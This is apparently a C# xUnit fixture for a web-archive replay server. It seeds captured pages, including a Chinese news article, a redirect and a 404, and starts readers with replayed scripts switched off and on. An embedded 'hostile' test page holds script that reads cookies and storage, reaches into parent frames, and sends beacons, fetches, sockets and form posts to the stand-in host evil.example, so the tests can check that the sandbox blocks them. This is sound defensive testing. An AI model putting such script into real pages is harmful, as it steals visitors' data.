using System.Text;
using Dibao.Capture;
using Dibao.Capture.Fetch;
using Dibao.Server.Api;
using Dibao.Server.Read;
using Dibao.Server.Tests.Read;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Xunit;

namespace Dibao.Server.Tests.Replay;

/// <summary>The reader over an archive of captured pages with what belongs to them, once with scripts in replays switched off and once on.</summary>
public sealed class ReplayHost : IAsyncLifetime
{
    public const string Page = "https://hewan.example/bridge";
    public const string Chinese = "https://hewan.example/%E6%A1%A5/%E5%A4%9C?a=1&b=2";
    public const string Hostile = "https://lantern.example/hostile";

    public static readonly DateTimeOffset First = new(2026, 11, 20, 8, 0, 0, 250, TimeSpan.Zero);
    public static readonly DateTimeOffset Second = First.AddHours(3);
    public static readonly DateTimeOffset Third = First.AddDays(40);

    /// <summary>A picture of 8 × 8 pixels, all of it red.</summary>
    private static readonly byte[] Picture = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEklEQVR4nGP4z8CAFWEXHbQSACj/P8Fu7N9hAAAAAElFTkSuQmCC");

    private readonly string folder = Directory.CreateTempSubdirectory("dibao-replay-").FullName;
    private Archive? archive;
    private WebApplication? still;
    private WebApplication? moving;

    public Uri Root { get; private set; } = null!;

    /// <summary>Scripts of archived pages run here.</summary>
    public Uri ScriptsRoot { get; private set; } = null!;

    public Archive Archive => archive!;

    public static string Path(DateTimeOffset at, string url, string form = "") => $"/web/{at:yyyyMMddHHmmss}{form}/{url}";

    public async ValueTask InitializeAsync()
    {
        archive = Archive.Open(folder, new ArchiveOptions(), TimeProvider.System);
        foreach (var (at, words) in ((DateTimeOffset, string)[])[(First, "通车仪式在雨中举行。"), (Second, "通车仪式改在室内举行。"), (Third, "通车仪式改在室内举行。")]) await KeepAsync(BridgePage(at, words));
        await KeepAsync(Bundle(Chinese, [Answer(Chinese, First, "text/html; charset=utf-8", "<!doctype html><title>夜</title><h1>桥上的夜</h1>"u8.ToArray())]));
        await KeepAsync(Bundle(Hostile, [Answer(Hostile, First, "text/html; charset=utf-8", Encoding.UTF8.GetBytes(HostilePage))]));
        await KeepAsync(Bundle("https://hewan.example/old", [
            Answer("https://hewan.example/old", First, "text/html", [], "HTTP/1.1 301 Moved Permanently", "Location: /bridge\r\n"),
            Answer(Page, First.AddSeconds(1), "text/html; charset=utf-8", "<h1>桥</h1>"u8.ToArray())]));
        await KeepAsync(Bundle("https://hewan.example/lost", [Answer("https://hewan.example/lost", First, "text/html", "<h1>Lost</h1>"u8.ToArray(), "HTTP/1.1 404 Not Found")]));
        (still, Root) = await StartAsync(new());
        (moving, ScriptsRoot) = await StartAsync(new() { ReplayScripts = true });
    }

    public async ValueTask DisposeAsync()
    {
        foreach (var app in new[] { still, moving }) if (app is not null) await app.DisposeAsync();
        if (archive is not null) await archive.DisposeAsync();
        Directory.Delete(folder, recursive: true);
    }

    private async Task KeepAsync(CaptureBundle bundle) => await archive!.KeepAsync(bundle, CancellationToken.None);

    private static CaptureBundle BridgePage(DateTimeOffset at, string words) => Bundle(Page, [
        Answer("https://hewan.example/red.png", at, "image/png", Picture),
        Answer("https://hewan.example/style/page.css", at, "text/css", "@import 'more.css'; h1 { color: rgb(10, 20, 30); background: url(../red.png) }"u8.ToArray()),
        Answer("https://hewan.example/style/more.css", at, "text/css", "p { color: rgb(1, 2, 3) }"u8.ToArray()),
        Answer(Page, at, "text/html; charset=utf-8", Encoding.UTF8.GetBytes(
            $"""
            <!doctype html><html lang="zh-Hans"><head><meta charset="utf-8"><title>第一座桥今天通车</title>
            <meta http-equiv="refresh" content="5;url=https://elsewhere.example/"><link rel="stylesheet" href="style/page.css" integrity="sha256-x" crossorigin>
            <link rel="preconnect" href="https://tracker.example/"><link rel="icon" href="/red.png"></head><body>
            <article><h1>第一座桥今天通车</h1><img id="kept" src="/red.png" alt=""><img id="lazy" data-src="/red.png" alt=""><img id="lost" src="https://cdn.example/lost.png" alt="">
            <p>河湾的第一座桥今天通车，市民从清晨起就在桥头等候，桥面上挂着红色的灯笼，孩子们拿着纸船。</p><p>{words}</p>
            <p>工程负责人林桥生说，这座桥用了三年时间建成，长度是一千二百米，今后两岸之间步行只需要十五分钟。</p>
            <p><a id="link" href="/桥/夜?b=2&amp;a=1">桥上的夜</a> <a href="javascript:alert(1)">x</a></p></article>
            <script>document.title = 'a script ran'</script></body></html>
            """))]);

    // Each trick reports what came of it into the page itself, where a test that may look into the frame finds it.
    private const string HostilePage =
        """
        <!doctype html><title>hostile</title><h1>Press here</h1><a id="out" href="https://evil.example/" target="_top">out</a>
        <form id="form" action="https://evil.example/form" method="post"><button>go</button></form>
        <img src="https://evil.example/pixel.png"><img src=x onerror="report('inline', 'ran')"><iframe src="https://evil.example/frame"></iframe>
        <link rel="prefetch" href="https://evil.example/prefetch"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
        <script>
          var reports = {};
          function report(name, what) { reports[name] = String(what); document.body.dataset.reports = JSON.stringify(reports); }
          function attempt(name, trick) { try { report(name, trick()); } catch (refused) { report(name, 'refused ' + refused.name); } }
          attempt('cookie', () => document.cookie);
          attempt('localStorage', () => localStorage.getItem('secret'));
          attempt('sessionStorage', () => sessionStorage.length);
          attempt('indexedDB', () => indexedDB.open('x').readyState);
          attempt('parent', () => parent === window ? 'no frame' : parent.document.title);
          attempt('top', () => { top.location = 'https://evil.example/top'; return 'navigated'; });
          attempt('open', () => window.open('https://evil.example/window') === null ? 'refused' : 'opened');
          try {
            const worker = new Worker('data:text/javascript,postMessage(1)');
            worker.onmessage = () => report('worker', 'ran'); worker.onerror = () => report('worker', 'refused');
          } catch (refused) { report('worker', 'refused'); }
          attempt('serviceWorker', () => navigator.serviceWorker ? 'there' : 'refused');
          attempt('submit', () => { document.getElementById('form').submit(); return 'asked'; });
          attempt('socket', () => { new WebSocket('wss://evil.example/'); return 'asked'; });
          attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
          for (const url of ['/api/articles', '/', 'https://evil.example/fetch']) {
            fetch(url).then(answer => report('fetch ' + url, 'answered ' + answer.status)).catch(refused => report('fetch ' + url, 'refused ' + refused.name));
          }
          import('https://evil.example/module.js').then(() => report('import', 'loaded')).catch(() => report('import', 'refused'));
          const image = new Image(); image.onload = () => report('image', 'loaded'); image.onerror = () => report('image', 'refused'); image.src = 'https://evil.example/image.png';
          const script = document.createElement('script'); script.src = '/assets/reader.js'; script.onerror = () => report('script', 'refused'); document.head.append(script);
        </script>
        """;

    private static CaptureBundle Bundle(string url, IReadOnlyList<Exchange> exchanges) => new()
    {
        Kind = CaptureKind.Article,
        Url = url,
        At = exchanges[^1].At,
        Outlet = url.Contains("lantern", StringComparison.Ordinal) ? SampleNews.Lantern : SampleNews.Hewan,
        Exchanges = exchanges,
    };

    private static Exchange Answer(string url, DateTimeOffset at, string type, byte[] body, string status = "HTTP/1.1 200 OK", string more = "") => KeptHead.ToExchange(
        url, at, Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: {new Uri(url).Host}\r\n\r\n"),
        Encoding.ASCII.GetBytes($"{status}\r\nContent-Type: {type}\r\n{more}\r\n"), body);

    private async Task<(WebApplication App, Uri Root)> StartAsync(ReaderOptions options)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseKestrelCore().UseUrls("http://127.0.0.1:0");
        builder.Logging.ClearProviders();
        builder.Services.AddSingleton(Archive.Reader);
        builder.Services.AddSingleton<TimeProvider>(new FixedTime(Third.AddDays(1)));
        builder.Services.AddReader(options);
        var app = builder.Build();
        app.MapReader();
        app.MapApi();
        await app.StartAsync();
        return (app, new Uri(app.Urls.Single()));
    }

    private sealed class FixedTime(DateTimeOffset now) : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => now;
    }
}

/// <summary>One host for all tests of the replay.</summary>
[CollectionDefinition(Name)]
public sealed class ReplayTests : ICollectionFixture<ReplayHost>
{
    public const string Name = "replay";
}
